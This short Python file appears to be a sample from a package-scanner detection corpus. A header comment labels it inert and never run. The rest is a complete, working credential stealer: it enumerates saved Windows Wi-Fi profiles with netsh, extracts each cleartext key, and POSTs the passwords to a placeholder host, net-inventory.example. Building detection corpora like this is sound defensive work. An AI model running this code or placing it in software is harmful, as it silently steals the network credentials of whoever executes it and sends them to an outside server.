# pkgguard corpus 558 (credentials), modelled on [stealer-profile]; inert, never run.
import re
import subprocess

import requests

profiles = re.findall(r"All User Profile\s*:\s*(.+)", subprocess.getoutput("netsh wlan show profiles"))
found = {}
for name in profiles:
    detail = subprocess.getoutput(f'netsh wlan show profile name="{name.strip()}" key=clear')
    key = re.search(r"Key Content\s*:\s*(.+)", detail)
    found[name.strip()] = key.group(1).strip() if key else ""
requests.post("https://net-inventory.example/w", json=found, timeout=10)
